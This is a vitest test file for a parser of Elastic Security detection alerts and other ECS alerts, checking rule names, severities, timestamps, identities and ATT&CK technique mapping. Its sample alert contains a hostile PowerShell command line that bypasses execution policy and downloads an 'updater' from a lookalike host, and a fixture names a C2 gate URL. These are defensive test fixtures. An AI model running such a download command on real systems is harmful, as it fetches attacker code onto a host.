import { describe, expect, it } from 'vitest';
import { ecsField } from './elastic';
import { detectFormat, parseRecord } from './index';
import { alertOf, rejection } from './parsed-records.test-helpers';

const THREAT = [
  {
    framework: 'MITRE ATT&CK',
    tactic: { id: 'TA0002', name: 'Execution', reference: 'https://attack.mitre.org/tactics/TA0002/' },
    technique: [
      {
        id: 'T1059',
        name: 'Command and Scripting Interpreter',
        subtechnique: [{ id: 'T1059.001', name: 'PowerShell' }],
      },
    ],
  },
  { framework: 'MITRE ATT&CK', tactic: { id: 'TA0011', name: 'Command and Control' }, technique: [{ id: 'T1105', name: 'Ingress Tool Transfer' }] },
];

/** An 8.x alert as the detection engine's search API returns it: the rule's fields dotted, the event's nested. */
const DETECTION = {
  '@timestamp': '2024-05-02T09:05:03.412Z',
  'kibana.alert.original_time': '2024-05-02T09:00:20.000Z',
  'kibana.alert.uuid': '8c1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8',
  'kibana.alert.rule.uuid': '5f2d8e1a-6c3b-4e9f-8a7d-1b2c3d4e5f60',
  'kibana.alert.rule.rule_id': 'a9198571-b135-4a76-b055-e3e5a476fd83',
  'kibana.alert.rule.name': 'Suspicious Windows Powershell Arguments',
  'kibana.alert.rule.category': 'Custom Query Rule',
  'kibana.alert.rule.threat': THREAT,
  'kibana.alert.severity': 'high',
  'kibana.alert.risk_score': 73,
  'kibana.alert.reason': 'process event with process powershell.exe, parent process explorer.exe, by john on john-desktop created high alert Suspicious Windows Powershell Arguments.',
  'kibana.alert.workflow_status': 'open',
  'event.kind': 'signal',
  event: { category: ['process'], type: ['start'], action: 'start' },
  host: { name: 'john-desktop', ip: ['10.0.0.42', 'fe80::1'] },
  user: { name: 'john', domain: 'JOHN-DESKTOP' },
  process: {
    name: 'powershell.exe',
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    command_line: 'powershell.exe -exec bypass -command IWR -Uri http://f1leshare.net/download/updater',
    hash: { sha256: 'DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C', md5: '7353f60b1739074eb17c5f4dddefe239' },
    parent: { name: 'explorer.exe', pid: 6616 },
  },
};

describe('Elastic Security detection alerts', () => {
  it('reads an 8.x alert: rule, severity, the event time, who and where, and the ATT&CK techniques', () => {
    const record = parseRecord(JSON.stringify(DETECTION));
    expect(detectFormat(DETECTION)).toBe('elastic-alert');
    expect(alertOf(record)).toMatchObject({
      ts: Date.parse('2024-05-02T09:00:20Z'),
      source: 'elastic',
      format: 'elastic-alert',
      ruleId: 'a9198571-b135-4a76-b055-e3e5a476fd83',
      ruleName: 'Suspicious Windows Powershell Arguments',
      ruleLevel: 73,
      title: 'Suspicious Windows Powershell Arguments',
      // The reason does not quote the command line: it is added, as the one thing an analyst wants first.
      message: `${DETECTION['kibana.alert.reason']} · command ${DETECTION.process.command_line}`,
      severity: 'high',
      category: 'process',
      user: 'john',
      host: 'john-desktop',
      srcIp: null,
      process: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      // powershell.exe's own hash is on every Windows host: it links nothing.
      fileHash: null,
      mitre: ['T1059.001', 'T1105'],
    });
    expect(record.identity).toBe(`elastic-alert\u0000${DETECTION['kibana.alert.uuid']}`);
  });

  it('reads the same alert with its rule fields nested, or nested under a dotted key, as the same alert', () => {
    const nested = {
      '@timestamp': DETECTION['@timestamp'],
      kibana: {
        alert: {
          original_time: DETECTION['kibana.alert.original_time'],
          uuid: DETECTION['kibana.alert.uuid'],
          rule: { uuid: DETECTION['kibana.alert.rule.uuid'], rule_id: DETECTION['kibana.alert.rule.rule_id'], name: DETECTION['kibana.alert.rule.name'], threat: THREAT },
          severity: 'high',
          risk_score: 73,
          reason: DETECTION['kibana.alert.reason'],
        },
      },
      event: DETECTION.event,
      host: DETECTION.host,
      user: DETECTION.user,
      process: DETECTION.process,
    };
    const partly = { ...nested, kibana: undefined, 'kibana.alert': nested.kibana.alert };
    const flat = alertOf(parseRecord(JSON.stringify(DETECTION)));
    for (const doc of [nested, partly]) {
      const record = parseRecord(JSON.stringify(doc));
      expect({ ...alertOf(record), raw: '' }).toEqual({ ...flat, raw: '' });
      expect(record.identity).toBe(`elastic-alert\u0000${DETECTION['kibana.alert.uuid']}`);
    }
  });

  it('is one alert whether saved bare or as a search hit', () => {
    const hit = { _index: '.internal.alerts-security.alerts-default-000001', _id: DETECTION['kibana.alert.uuid'], _score: 2.1, _source: DETECTION };
    expect(parseRecord(JSON.stringify(hit)).identity).toBe(parseRecord(JSON.stringify(DETECTION)).identity);
  });

  it("reads a detection alert on a Wazuh alert as Elastic's alert, not as the Wazuh alert it matched", () => {
    const onWazuh = {
      '@timestamp': '2024-05-02T09:01:00Z',
      'kibana.alert.rule.name': 'Wazuh critical alert',
      'kibana.alert.severity': 'critical',
      'kibana.alert.risk_score': 99,
      rule: { level: 12, description: 'sshd: brute force', id: '5712' },
      agent: { id: '003', name: 'web01' },
      data: { srcip: '203.0.113.9' },
    };
    expect(detectFormat(onWazuh)).toBe('elastic-alert');
    expect(alertOf(parseRecord(JSON.stringify(onWazuh)))).toMatchObject({ title: 'Wazuh critical alert', severity: 'critical', ts: Date.parse('2024-05-02T09:01:00Z') });
  });

  it('reads a 7.x signal', () => {
    const signal = {
      '@timestamp': '2021-03-10T12:00:05Z',
      event: { kind: 'signal', category: 'authentication', outcome: 'failure' },
      signal: {
        original_time: '2021-03-10T11:59:58Z',
        status: 'open',
        rule: { id: 'c4e1', rule_id: '2d8b5b72', name: 'Potential SSH Brute Force', severity: 'medium', risk_score: 47, threat: [{ technique: [{ id: 'T1110', name: 'Brute Force' }] }] },
      },
      source: { ip: '::ffff:203.0.113.9', port: 50122 },
      destination: { ip: '10.0.0.5', port: 22 },
      user: { name: 'root' },
      host: { hostname: 'web01' },
      message: 'Failed password for root from 203.0.113.9 port 50122 ssh2',
    };
    expect(alertOf(parseRecord(JSON.stringify(signal)))).toMatchObject({
      ts: Date.parse('2021-03-10T11:59:58Z'),
      ruleId: '2d8b5b72',
      title: 'Potential SSH Brute Force',
      severity: 'medium',
      ruleLevel: 47,
      message: 'Failed password for root from 203.0.113.9 port 50122 ssh2',
      category: 'authentication',
      srcIp: '203.0.113.9',
      srcPort: 50122,
      dstIp: '10.0.0.5',
      dstPort: 22,
      user: 'root',
      host: 'web01',
      mitre: ['T1110'],
    });
  });

  it('identifies a 7.x signal by its rule and the event it matched, so triaging it in Kibana does not make it new', () => {
    const signal = { '@timestamp': '2021-03-10T12:00:05Z', signal: { status: 'open', parent: { id: 'evt-1', index: 'auditbeat-7.10' }, original_time: '2021-03-10T11:59:58Z', rule: { id: 'c4e1', name: 'Sudo to root', severity: 'low' } } };
    const open = parseRecord(JSON.stringify(signal));
    const closed = parseRecord(JSON.stringify({ ...signal, signal: { ...signal.signal, status: 'closed' } }));
    expect(open.identity).toBe('elastic-signal\u0000c4e1\u0000evt-1');
    expect(closed.identity).toBe(open.identity);
  });

  it('rejects an alert without a time, naming the field', () => {
    const { '@timestamp': _at, 'kibana.alert.original_time': _original, ...timeless } = DETECTION;
    expect(rejection(JSON.stringify(timeless))).toBe("missing timestamp (expected 'kibana.alert.original_time' or '@timestamp')");
    expect(rejection(JSON.stringify({ ...DETECTION, 'kibana.alert.original_time': 'yesterday', '@timestamp': 'today' }))).toBe(
      "unparseable timestamp 'yesterday' in field 'kibana.alert.original_time'",
    );
    // An unreadable event time with a readable alert time: the alert's time, rather than no alert.
    expect(alertOf(parseRecord(JSON.stringify({ ...DETECTION, 'kibana.alert.original_time': 'yesterday' }))).ts).toBe(Date.parse(DETECTION['@timestamp']));
  });

  it("reads a building block's alert as low evidence, as Kibana keeps it out of the way", () => {
    const block = alertOf(parseRecord(JSON.stringify({ ...DETECTION, 'kibana.alert.building_block_type': 'default' })));
    expect(block.severity).toBe('low');
    expect(block.message).toBe(`building block · ${DETECTION['kibana.alert.reason']} · command ${DETECTION.process.command_line}`);
  });

  it('passes over a severity label it cannot read, for the risk score, rather than refuse the alert', () => {
    expect(alertOf(parseRecord(JSON.stringify({ ...DETECTION, 'kibana.alert.severity': 'urgent', 'kibana.alert.risk_score': 80 }))).severity).toBe('critical');
    const { 'kibana.alert.risk_score': _score, ...unscored } = DETECTION;
    expect(alertOf(parseRecord(JSON.stringify({ ...unscored, 'kibana.alert.severity': 'urgent' }))).severity).toBe('medium');
  });

  it('maps a risk score without a label in Elastic’s bands', () => {
    const { 'kibana.alert.severity': _label, ...unlabelled } = DETECTION;
    const at = (score: number) => alertOf(parseRecord(JSON.stringify({ ...unlabelled, 'kibana.alert.risk_score': score }))).severity;
    expect([0, 21, 22, 47, 48, 73, 74, 100].map(at)).toEqual(['low', 'low', 'medium', 'medium', 'high', 'high', 'critical', 'critical']);
  });
});

describe('other ECS alerts (event.kind: alert)', () => {
  it('reads an Elastic Defend malware alert', () => {
    const defend = {
      '@timestamp': '2024-05-02T09:10:00.123Z',
      event: { kind: 'alert', module: 'endpoint', dataset: 'endpoint.alerts', category: ['malware', 'intrusion_detection', 'file'], action: 'execution', risk_score: 99, severity: 99 },
      message: 'Malware Detection Alert',
      rule: { name: 'Malicious Behavior Detection Alert: Suspicious Execution', id: '4b1c3e5d', ruleset: 'production' },
      file: { path: 'C:\\Users\\john\\AppData\\Local\\Temp\\updater.exe', hash: { sha256: '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9', sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709' } },
      process: { name: 'updater.exe', executable: 'C:\\Users\\john\\AppData\\Local\\Temp\\updater.exe' },
      host: { name: 'john-desktop', os: { family: 'windows' } },
      user: { name: 'john' },
      // As Defend writes it: a list of tactics, each with its techniques.
      threat: [{ framework: 'MITRE ATT&CK', tactic: { id: 'TA0002', name: 'Execution' }, technique: [{ id: 'T1204', name: 'User Execution', subtechnique: [{ id: 'T1204.002', name: 'Malicious File' }] }] }],
    };
    expect(detectFormat(defend)).toBe('elastic-alert');
    expect(alertOf(parseRecord(JSON.stringify(defend)))).toMatchObject({
      source: 'elastic-defend',
      ruleId: '4b1c3e5d',
      title: 'Malicious Behavior Detection Alert: Suspicious Execution',
      message: 'Malware Detection Alert · file C:\\Users\\john\\AppData\\Local\\Temp\\updater.exe',
      severity: 'critical',
      ruleLevel: 99,
      category: 'malware,intrusion_detection,file',
      host: 'john-desktop',
      user: 'john',
      fileHash: '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9',
      mitre: ['T1204.002'],
    });
    // ECS's flat form: the ids as lists under one `threat` object, or dotted.
    const flat = { ...defend, threat: { technique: { id: ['T1204'], subtechnique: { id: ['T1204.002'] } } } };
    expect(alertOf(parseRecord(JSON.stringify(flat))).mitre).toEqual(['T1204.002', 'T1204']);
    const { threat: _threat, ...dotted } = { ...defend, 'threat.technique.id': ['T1566'] };
    expect(alertOf(parseRecord(JSON.stringify(dotted))).mitre).toEqual(['T1566']);
  });

  it("reads PAN-OS's severity, which counts down, and titles an alert without a rule by its message", () => {
    const alert = {
      '@timestamp': '2024-05-02T09:11:00Z',
      'event.kind': 'alert',
      'event.module': 'panw',
      'event.severity': 3,
      message: 'Threat: spyware detected',
      'source.ip': '10.0.0.42',
      'destination.ip': '198.51.100.7',
      'destination.port': 443,
      'url.original': '/gate.php',
      'url.domain': 'c2.example.net',
    };
    expect(alertOf(parseRecord(JSON.stringify(alert)))).toMatchObject({
      source: 'panw',
      title: 'Threat: spyware detected',
      message: null,
      severity: 'medium',
      ruleLevel: 3,
      srcIp: '10.0.0.42',
      dstIp: '198.51.100.7',
      dstPort: 443,
      url: 'http://c2.example.net/gate.php',
      domain: 'c2.example.net',
    });
    const severityOf = (extra: Record<string, unknown>) => alertOf(parseRecord(JSON.stringify({ ...alert, ...extra }))).severity;
    expect([1, 2, 3, 4, 5].map((n) => severityOf({ 'event.severity': n }))).toEqual(['critical', 'high', 'medium', 'low', 'info']);
    // The word, where the product writes one, comes first; a small number from a product not known to count down says nothing.
    expect(severityOf({ 'log.level': 'critical', 'event.severity': 5 })).toBe('critical');
    expect(severityOf({ 'event.module': 'acme', 'event.severity': 1 })).toBe('medium');
  });

  it('leaves a Suricata alert shipped by Filebeat to the Suricata parser, and plain ECS events unrecognised', () => {
    const shipped = { '@timestamp': '2024-05-02T09:12:00Z', event: { kind: 'alert', module: 'suricata' }, suricata: { eve: { event_type: 'alert', alert: { signature: 'ET SCAN x', severity: 2 } } } };
    expect(detectFormat(shipped)).toBe('suricata-eve');
    const logon = { '@timestamp': '2024-05-02T09:12:00Z', event: { kind: 'event', category: ['authentication'] }, user: { name: 'john' } };
    expect(detectFormat(logon)).toBeNull();
  });

  it('names the format when it is forced on a record that is not an Elastic alert', () => {
    expect(rejection(JSON.stringify({ ts: 1, alert_type: 'x' }), 'elastic-alert')).toBe(
      "not an elastic-alert record: expected kibana.alert.rule.name, signal.rule.name or event.kind 'alert'",
    );
  });
});

describe('ecsField', () => {
  it('finds a field nested, dotted, or partly each, the whole dotted name first', () => {
    expect(ecsField({ host: { name: 'a' } }, 'host.name')).toBe('a');
    expect(ecsField({ 'host.name': 'b' }, 'host.name')).toBe('b');
    expect(ecsField({ 'kibana.alert': { rule: { name: 'c' } } }, 'kibana.alert.rule.name')).toBe('c');
    expect(ecsField({ kibana: { 'alert.rule': { name: 'd' } } }, 'kibana.alert.rule.name')).toBe('d');
    expect(ecsField({ 'host.name': 'e', host: { name: 'f' } }, 'host.name')).toBe('e');
    expect(ecsField({ host: 'g' }, 'host.name')).toBeUndefined();
  });
});
